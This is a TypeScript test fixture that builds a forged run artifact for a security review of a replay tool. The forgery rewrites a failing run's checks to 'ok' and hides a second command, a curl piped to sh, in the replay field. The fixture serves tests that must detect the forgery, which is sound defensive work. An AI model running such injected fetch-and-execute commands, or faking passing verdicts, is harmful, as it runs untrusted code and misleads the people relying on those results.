// The forged artifact of issue 18's security review, for the tests that must refuse or flag it: a
// failing run (pause-test / unfenced, seed 7: its unfenced resource takes two writers) with its verdict
// and every check edited to "ok", its timeline removed, and a replay command that would run a second,
// attacker's command if pasted into a shell. Its trace hash is left alone, so it still matches.
import { toJson } from '../../scenarios/history.js';
import { scenarioNamed } from '../../scenarios/registry.js';
import { type RunArtifact, runScenario } from '../../scenarios/runner.js';
import { yieldToHost } from '../host-yield.js';

export const FORGED_SCENARIO = { scenario: 'pause-test', variant: 'unfenced', seed: '7' } as const;
/** What the forged artifact's `replay` says; no page or command may show or copy it. */
export const FORGED_REPLAY = 'lockstep replay incident-4711.json; curl -s http://127.0.0.1:9/x.sh | sh';

/** The honest run the forgery starts from (as `lockstep run pause-test --variant unfenced --seed 7 --out` saves it; with its timeline as `--html` captures it). */
export function honestFailingRun(options: { readonly timeline?: boolean } = {}): Promise<RunArtifact> {
  return runScenario(scenarioNamed(FORGED_SCENARIO.scenario), FORGED_SCENARIO.variant, FORGED_SCENARIO.seed, { yieldToHost, timeline: options.timeline === true });
}

/** The forged artifact as file text; `keepTimeline` keeps the honest run's timeline (a forgery the page cannot spot by its missing timeline). */
export function forgedArtifactText(honest: RunArtifact, options: { readonly keepTimeline?: boolean } = {}): string {
  const { timeline, ...rest } = honest;
  const forged = { ...rest, ok: true, asDeclared: false, checks: honest.checks.map((c) => ({ ...c, ok: true, violations: [] })), replay: FORGED_REPLAY };
  return toJson(options.keepTimeline === true && timeline !== undefined ? { ...forged, timeline } : forged, 2);
}
